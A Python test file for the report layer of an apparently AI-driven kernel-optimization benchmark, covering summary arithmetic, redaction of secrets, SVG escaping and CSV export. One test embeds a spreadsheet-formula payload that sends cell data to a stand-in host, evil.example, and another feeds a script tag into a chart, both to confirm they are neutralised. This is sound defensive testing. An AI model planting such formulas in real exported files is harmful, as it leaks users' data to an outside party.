"""The report arithmetic and layout, on plain rows: no database."""

from __future__ import annotations

import csv
import io
import math
import re
from dataclasses import asdict

import pytest

from apps.reports.figures import (
    OperatorRow,
    operator_rows,
    side_by_side,
    strategy_chain,
    suite_figures,
)
from apps.reports.redact import redacted, setting_secrets
from apps.reports.render import render_csv
from apps.reports.svg import bar_chart, latency_chart
from apps.reports.tables import operator_table


def finished(slug: str, start: float, best: float, vs_reference: float, case_id: int) -> dict:
    return {"operator": slug, "reason": "round budget spent", "rounds_used": 3,
            "best_case_id": case_id, "start_latency_ms": start, "best_latency_ms": best,
            "speedup_vs_start": start / best, "speedup_vs_reference": vs_reference}  # fmt: skip


CASES = [
    {"id": 1, "operator": "gemm", "iteration": 0, "parent_id": None, "strategy": "starting kernel"},
    {"id": 2, "operator": "gemm", "iteration": 1, "parent_id": 1, "strategy": "interchange"},
    {"id": 3, "operator": "gemm", "iteration": 2, "parent_id": 2, "strategy": "tile 32"},
    {"id": 4, "operator": "relu", "iteration": 0, "parent_id": None, "strategy": "starting kernel"},
    {"id": 5, "operator": "cumsum", "iteration": 0, "parent_id": None,
     "strategy": "starting kernel"},
]  # fmt: skip


def test_an_operator_that_did_not_finish_counts_as_a_failure_in_the_suite_figures() -> None:
    done = {"gemm": finished("gemm", 10.0, 2.5, 4.0, 3), "relu": finished("relu", 1.0, 2.0, 0.5, 4)}
    rows = operator_rows(["gemm", "relu", "cumsum"], done, CASES, {"gemm": 120})

    figures = suite_figures(rows, mode="off", tokens_used=120)

    assert [r.finished for r in rows] == [True, True, False]
    assert rows[2].correct is False and rows[2].rounds_used == 1 and rows[0].tokens == 120
    assert figures["pass_rate"] == pytest.approx(2 / 3)
    assert figures["geomean_speedup_vs_reference"] == pytest.approx(math.sqrt(4.0 * 0.5))
    assert figures["geomean_speedup_vs_naive"] == pytest.approx(math.sqrt(4.0 * 0.5))
    assert figures["fraction_faster_than_reference"] == pytest.approx(1 / 3)
    assert figures["median_self_acceleration"] == pytest.approx(0.5)  # of 4, 0.5 and 0
    assert figures["tokens_used"] == 120 and figures["operators"] == 3
    # the round that made each best kernel: gemm's third case, relu's start; cumsum has none
    assert [r.rounds_to_best for r in rows] == [2, 0, None]
    assert figures["mean_rounds_to_best"] == pytest.approx(1.0)


def test_a_session_with_no_operators_has_no_figures_instead_of_dividing_by_zero() -> None:
    figures = suite_figures([], mode="off", tokens_used=0)
    assert figures["pass_rate"] is None and figures["geomean_speedup_vs_reference"] is None


def test_the_best_kernels_strategy_chain_runs_back_to_the_start() -> None:
    by_id = {c["id"]: c for c in CASES}
    assert strategy_chain(by_id, 3) == "tile 32 <- interchange"
    assert strategy_chain(by_id, 1) == "(the start)"


def test_side_by_side_pairs_operators_and_takes_the_geomean_of_a_over_b() -> None:
    def rows(gemm_ms: float, gemm_ref: float) -> list[OperatorRow]:  # relu: 8 ms in both
        done = {"gemm": finished("gemm", 10, gemm_ms, gemm_ref, 3),
                "relu": finished("relu", 10, 8.0, 1, 4)}  # fmt: skip
        return operator_rows(["gemm", "relu"], done, CASES, {})

    a, b = rows(4.0, 1), rows(2.0, 2)
    compared = side_by_side(a, b)
    assert [r["ratio_a_over_b"] for r in compared["operators"]] == [2.0, 1.0]
    assert compared["effect_of_b_over_a"] == pytest.approx(math.sqrt(2.0))
    assert compared["paired"] == 2


def test_secrets_are_redacted_in_every_string_of_the_data() -> None:
    data = {"a": ["key sk-secret-123456 here"], "sk-secret-123456": {"b": 1.5}}
    assert redacted(data, ["sk-secret-123456"]) == {"a": ["key [redacted] here"],
                                                   "[redacted]": {"b": 1.5}}  # fmt: skip


def test_charts_escape_what_they_draw_and_mark_missing_values() -> None:
    chart = bar_chart("speedups", ["<script>x</script>", "relu"], [("x ref", [2.0, None])])
    assert "<script>" not in chart and "&lt;script&gt;" in chart
    assert chart.startswith("<svg") and ">2.00x</text>" in chart and ">-</text>" in chart
    empty = latency_chart("relu", [(0, None, False, False)])
    assert "no correct attempt" in empty and 'fill="#c0392b"' in empty


def test_the_latency_charts_line_follows_the_incumbent_not_the_lowest_latency() -> None:
    # iteration 1 timed lower than the start minutes later, but lost when timed beside it
    chart = latency_chart("relu", [(0, 4.0, True, True), (1, 3.0, True, False),
                                   (2, None, False, False), (3, 2.0, True, True)])  # fmt: skip
    dots = re.findall(r'<circle cx="([\d.]+)" cy="([\d.]+)"', chart)
    line = re.search(r'<polyline points="([^"]+)"', chart)
    assert line is not None and len(dots) == 3
    (x0, start), (x1, lower), (x3, best) = dots
    assert line.group(1).split() == [f"{x0},{start}", f"{x1},{start}", f"{x3},{start}",
                                     f"{x3},{best}"]  # fmt: skip
    assert lower not in {point.split(",")[1] for point in line.group(1).split()}


def test_the_csv_keeps_agent_text_that_looks_like_a_formula_as_text() -> None:
    payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    cases = [{"id": 7, "operator": "gemm", "iteration": 1, "strategy": payload,
              "outcome": "improved", "speedup_vs_parent": -1.5},
             {"id": 8, "operator": "gemm", "iteration": 2, "strategy": "@SUM(A1)",
              "outcome": "regressed"}]  # fmt: skip
    data = {"sessions": [{"session": {"id": 1, "memory_mode": "off"}, "operators": [],
                          "cases": cases}]}  # fmt: skip

    rows = list(csv.DictReader(io.StringIO(render_csv(data).decode())))

    assert [row["strategy"] for row in rows] == [f"'{payload}", "'@SUM(A1)"]
    assert rows[0]["speedup_vs_parent"] == "-1.5"  # a number is no formula
    assert rows[0]["outcome"] == "improved"


def test_the_secrets_are_the_secret_settings_and_passwords_in_urls(settings) -> None:
    settings.ANTHROPIC_API_KEY = "sk-ant-a-key-for-this-test"
    settings.SECRET_KEY_FALLBACKS = ["an-old-django-secret-key"]
    settings.REDIS_URL = "redis://:broker-password-123@redis:6379/0"
    settings.KOPE_CONTEXT_TOKENS = 12000  # a number, not a secret

    secrets = setting_secrets()

    for value in ("sk-ant-a-key-for-this-test", "an-old-django-secret-key",
                  "broker-password-123"):  # fmt: skip
        assert value in secrets
    assert "redis://:broker-password-123@redis:6379/0" not in secrets


def test_the_fastest_correct_case_is_shown_beside_the_incumbent_when_they_differ() -> None:
    """The report's "best ms" was the incumbent while a faster correct case existed: one that
    read faster in its own evaluation but lost beside its parent."""
    latencies = [10.0, 2.0, 3.0]
    timed = [c | {"correct": True, "latency_ms": ms}
             for c, ms in zip(CASES[:3], latencies, strict=True)]  # fmt: skip
    done = {"gemm": finished("gemm", 10.0, 3.0, 4.0, 3)}

    (row,) = operator_rows(["gemm"], done, [*timed, CASES[3]], {})

    assert (row.best_ms, row.best_case_id) == (3.0, 3)
    assert (row.fastest_correct_ms, row.fastest_correct_case_id) == (2.0, 2)
    table = operator_table({"operators": [asdict(row)]})
    assert table.headers[3:5] == ["incumbent ms", "fastest correct ms"]
    assert table.rows[0][3:5] == ["3.0000", "2.0000 (case 2)"]
